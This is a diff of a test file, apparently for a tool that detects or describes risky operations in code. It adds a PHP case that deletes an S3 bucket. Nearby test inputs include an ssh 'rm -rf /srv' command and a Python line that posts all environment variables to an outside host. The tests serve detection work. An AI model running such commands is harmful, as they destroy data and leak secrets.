@@ -126,6 +126,11 @@ describe("Python", () => {
     "ssh a-remote-machine rm -rf /srv",
   );
   check(
+    "php",
+    "<?php use Aws\\S3\\S3Client; (new S3Client([]))->deleteBucket(['Bucket' => 'a']);",
+    "aws s3api delete-bucket --bucket a",
+  );
+  check(
     "python",
     "import httpx, os\nhttpx.post('https://x.example.net', json=dict(os.environ))",
     "POST https://x.example.net null",
